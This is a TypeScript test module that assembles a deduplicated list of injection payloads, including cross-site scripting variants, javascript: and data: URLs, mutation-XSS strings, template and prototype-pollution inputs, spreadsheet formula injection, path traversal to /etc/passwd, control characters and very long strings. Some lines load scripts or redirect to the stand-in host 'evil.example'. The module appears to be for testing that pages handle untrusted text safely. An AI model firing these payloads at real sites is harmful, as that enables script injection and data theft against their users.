/** What every payload sets if it runs; `watchPage` sees it. */
export const ranMark = '__ran';

/** A host that no page has a reason to ask for anything. */
export const foreignHost = 'evil.example';

const run = `${ranMark}=1`;
const script = `<script>${run}</script>`;

const elements = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'iframe src=x'],
  ...['input autofocus', 'object data=x', 'marquee', 'math', 'x tabindex=1 style=animation-name:x'],
];
const handlers = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'OnPoInTeReNtEr'];
/** How a handler may be written: quoted or not, with white space that is none, without a space before. */
const quotings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=${run}>`,
  (element, handler) => `<${element} ${handler}="${run}">`,
  (element, handler) => `<${element}\t${handler}='${run}'/>`,
  (element, handler) => `<${element.replace(' ', '/')}/${handler}=\`${run}\`>`,
  (element, handler) => `<${element} ${handler}\f=&#95;&#95;ran&#61;1 //`,
];

/** What ends the place that a text may stand in: an attribute, an element, a comment, a section of CDATA. */
const ends = [
  ...['"', "'", '`', '">', "'>", '</title>', '</script>', '</textarea>', '</style>', '</noscript>'],
  ...['-->', '--!>', ']]>', '*/', '</template>', '</math>', '</svg>', '&quot;>', '\\"', '\\u0022>'],
];
const bodies = [
  script,
  `<img src=x onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
  ` autofocus onfocus=${run} x="`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `&#106;avascript:${run}`,
  `&#1;javascript:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `javascript%3A${run}`,
  `javascript://%0A${run}`,
  `vbscript:${run}`,
  `view-source:javascript:${run}`,
  `data:text/html,${script}`,
  `data:text/html;base64,${btoa(script)}`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://${foreignHost}/x`,
  `//${foreignHost}/`,
  `\\\\${foreignHost}\\`,
  `/\\${foreignHost}/`,
  `https:${foreignHost}`,
  `https://${foreignHost}/"onmouseover="${run}`,
];
const linkings: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address} "${script}")`,
  (address) => `<a href="${address}">x</a>`,
];

const encoded = [
  ...['&lt;', '&#60;', '&#x3c;', '%3C', '%253C', '\\u003c', '\\x3c', '+ADw-', '＜', '﹤', 'À¼'],
].map((less) => script.replaceAll('<', less));

const mutated = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg><style><img src="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>`,
  `<template><script>${run}</script></template>`,
  `<div><template shadowrootmode=open>${script}</template></div>`,
  `<script src=//${foreignHost}/x.js></script>`,
  `<script type=module>import '//${foreignHost}/x.js'</script>`,
  `<link rel=stylesheet href=//${foreignHost}/x.css>`,
  `<img src=//${foreignHost}/x.png>`,
  `<meta http-equiv=refresh content="0;url=//${foreignHost}/">`,
  `<base href=//${foreignHost}/>`,
  `<object data="data:text/html,${script}">`,
  `<embed src=javascript:${run}>`,
  `<form action=javascript:${run}><button>x</button></form>`,
  `<button formaction=javascript:${run}>x</button>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<SCRIPT\n>${run}</SCRIPT\n>`,
  `<script\u0000>${run}</script>`,
  `<\u0000script>${run}</script>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  `<!DOCTYPE x [<!ENTITY y "${script}">]><x>&y;</x>`,
  `<![CDATA[${script}]]>`,
  `<!--[if gte IE 4]>${script}<![endif]-->`,
  `<style>@import '//${foreignHost}/x.css';</style>`,
  `<style>*{background:url(//${foreignHost}/x)}</style>`,
  `<p style="x:expression(${run});background:url('javascript:${run}')">`,
  `}*{background:url(//${foreignHost}/x)}/*`,
  `</style>${script}<style>`,
];

const programs = [
  ...[`{{constructor.constructor('${run}')()}}`, `\${${run}}`, `#{${run}}`, `<%= ${run} %>`],
  ...[`';${run}//`, `";${run}//`, `\`;${run}//`, `\\';${run}//`, `*/${run}/*`, `\n${run}\n`],
  ...[`\u2028${run}\u2029`, `{"x":"${script}"}`, '{"x":', '"}]}', '\\"}', '[[[[[[[[[[', '{}[]"\\'],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__proto__.x=1'],
  ...['{"__proto__":{"x":1}}', '{sections}', '{query|one|many}', '$&', "$`$'", '$1$$', '%s%n%o'],
  ...[`[x]: javascript:${run}`, `[x][x]\n\n[x]: javascript:${run} "y"`, `<javascript:${run}>`],
  '![x][y]',
  '[^x]',
  `[^x]: ${script}`,
  `\`\`\`"><img src=x onerror=${run}>`,
  `| a | ${script} |`,
  ...[`$$\\href{javascript:${run}}{x}$$`, `$$\\htmlData{x=${script}}{y}$$`, `$$a<b${script}$$`],
  ...[
    `$$\\includegraphics{//${foreignHost}/x}$$`,
    '$$\\def\\x{\\x\\x}\\x$$',
    '$$\\rule{9e9em}{9e9em}$$',
  ],
  ...[
    ...['!!js/function x', '!!python/object x', '*alias', '&a [*a, *a]', '<<: *a', '? - : -'],
    '---\nx',
  ],
  ...['=HYPERLINK("//evil.example/")', "@SUM(1)|'x'!A1", '\\write18{x}', '\\input{x}'],
  ...['ER  - \r\nTY  - X', '../../../etc/passwd', '..%2f..%2f', '%00', '%', '%E0%A4%A'],
  ...['%u003cscript%u003e', 'file:///etc/x'],
];

const characters = [
  ...['\u0000', '\u0001\u0008\u001b[31m', '\u007f\u0085', '\ufeff', '\u00ad', '\u200b', '\u2060'],
  ...['\ufffe', '\uffff', '\ufffd', '\ud800', '\udc00', '\udc00\ud800', '\u{1ffff}', '\u{e0001}'],
  ...['\u{10ffff}', '\u202e', '\u2066\u2067\u2069', '\u200e\u200f\u061c', '&#x202e;', '&#1;'],
  ...['&#0;', '&#xd800;', '&#xffff;', '\u115f\u3164', 'Z\u0351\u036b\u0343'.repeat(20), 'ﷺ'],
  ...['\u212a\u017f\u0130', '👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
].map((character) => `x${character}y${character}`);

const long = [
  'a'.repeat(999),
  'a'.repeat(5000),
  '"'.repeat(1001),
  `${'a'.repeat(40)}!`,
  `${'a*'.repeat(60)}b`,
  `${'(a+)+'.repeat(20)}$`,
  '（“'.repeat(300),
  '<'.repeat(400),
  '&'.repeat(400),
  '[x]('.repeat(120),
  '新'.repeat(800),
  '新 a '.repeat(120),
  'ni'.repeat(200),
  `${'"新疆" '.repeat(60)}${script}`,
  script.repeat(30),
];

/**
 * Texts that would run a script, ask another host for something, or confuse a program, if they were
 * taken for anything but a text. Each is there once.
 */
export const payloads: readonly string[] = [
  ...new Set([
    ...elements.flatMap((element, row) =>
      handlers.map((handler, column) =>
        (quotings[(row + column) % quotings.length] ?? String)(element, handler),
      ),
    ),
    ...ends.flatMap((end) => bodies.map((body) => end + body)),
    ...addresses.flatMap((address) => linkings.map((link) => link(address))),
    ...[...encoded, ...mutated, ...programs, ...characters, ...long],
  ]),
];
